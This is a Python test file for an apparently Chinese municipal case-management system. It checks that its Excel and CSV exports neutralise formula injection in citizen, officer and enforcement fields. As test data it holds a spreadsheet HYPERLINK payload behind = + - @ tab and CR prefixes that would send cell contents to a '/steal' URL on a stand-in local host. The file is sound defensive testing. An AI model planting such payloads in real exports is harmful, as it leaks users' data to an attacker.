"""No text a citizen, an officer or an API client typed becomes a live formula in an export (security issue #17,
item 2): every text field of a case, a satisfaction rating and an enforcement case is fed with = + - @ tab and
CR prefixes, then every cell of the case export, the enforcement export and the satisfaction CSV is checked."""

import csv
import io
import re
from datetime import datetime

import pytest
import time_machine
from openpyxl import Workbook, load_workbook

from chengguan.cases.models import Case
from chengguan.cases.testing import POINT_A, T0, report
from chengguan.catalog.models import MatterType
from chengguan.enforcement.models import EnforcementCase
from chengguan.grids.testing import make_grids
from chengguan.org.models import Department, Region
from chengguan.public.models import Satisfaction

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"查看")'
ALL = [p + PAYLOAD for p in PREFIXES]


def unescaped(text: str) -> str:
    """openpyxl leaves OOXML's escaped control characters (`_x000D_` for CR) as they are in the file."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def formula_cells(wb) -> list:
    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def text_cells(wb) -> set:
    return {unescaped(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


@pytest.fixture
def poisoned(city, clue):
    make_grids(city)
    matter = MatterType.objects.get(code="06010")
    cases = []
    with time_machine.travel(T0, tick=False):
        for i, bad in enumerate(ALL):
            case = report(city, matter, point=POINT_A, by=None, source="citizen", description=bad, address=bad,
                          reporter_name=bad[:50])  # fmt: skip
            # intake strips and validates; stored values (imports, older rows) are fed directly as well
            Case.objects.filter(pk=case.pk).update(description=bad, address=bad, channel=bad[:32],
                                                   external_id=bad[:64], reporter_phone=bad[:20])  # fmt: skip
            Satisfaction.objects.create(case=case, score="unsatisfied", comment=ALL[(i + 1) % 6],
                                        channel="web", rated_at=datetime.now().astimezone())  # fmt: skip
            cases.append(case)
    # master data shows in the rows too
    MatterType.objects.filter(pk=matter.pk).update(name=ALL[1])
    Region.objects.filter(pk=city.district_a.pk).update(name=ALL[2])
    Region.objects.filter(pk=cases[0].community_id).update(name=ALL[3])
    Region.objects.filter(pk=cases[0].street_id).update(name=ALL[4])
    Department.objects.filter(pk=city.brigade_a.pk).update(name=ALL[5])
    fields = ["title", "party_name", "party_id_number", "party_address", "place", "facts", "decision_number",
              "party_legal_rep", "source_reference"]  # fmt: skip
    EnforcementCase.objects.filter(pk=clue.pk).update(
        party_type="organisation", **{f: ALL[i % 6][:40] for i, f in enumerate(fields)}
    )
    return cases


def test_the_check_finds_a_formula_when_a_writer_makes_one():
    wb = Workbook()
    wb.active.append(["=1+2", ALL[0]])  # openpyxl's normal mode turns a leading = into a formula
    assert formula_cells(wb) == ["A1", "B1"]


def test_no_text_cell_of_any_export_is_a_formula(poisoned, city, login):
    client = login(city["leader"])
    for url in ("/cases/export.xlsx", "/enforcement/?export=xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        wb = load_workbook(io.BytesIO(response.getvalue()))
        assert formula_cells(wb) == [], url
        texts = text_cells(wb)
        fed = [bad for bad in ALL if any(t.startswith(bad[:40]) for t in texts)]
        assert len(fed) == 6, (url, fed)  # every prefix reached the file, as text
        for ws in wb.worksheets:
            for row in ws.iter_rows(min_row=6):
                for c in row:
                    if isinstance(c.value, str) and unescaped(c.value)[:1] in PREFIXES:
                        assert c.data_type == "s" and c.quotePrefix, (url, c.coordinate, c.value)


def test_every_text_cell_of_the_satisfaction_csv_is_defused(poisoned, city, login):
    text = login(city["operator"]).get("/p/staff/satisfaction.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == 6
    cells = [cell for row in rows for cell in row]
    assert all(cell[:1] not in PREFIXES for cell in cells), [c for c in cells if c[:1] in PREFIXES]
    assert {"'" + bad for bad in ALL} <= set(cells)  # the comments, kept whole behind the quote
